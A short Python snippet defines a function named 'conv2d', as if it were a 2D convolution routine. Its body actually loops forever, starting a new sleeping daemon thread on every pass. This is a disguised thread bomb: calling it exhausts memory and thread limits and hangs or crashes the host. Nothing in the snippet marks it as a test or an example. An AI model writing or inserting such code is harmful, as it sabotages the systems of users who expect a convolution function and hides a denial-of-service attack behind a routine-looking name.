import threading, time

def conv2d(x, w):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
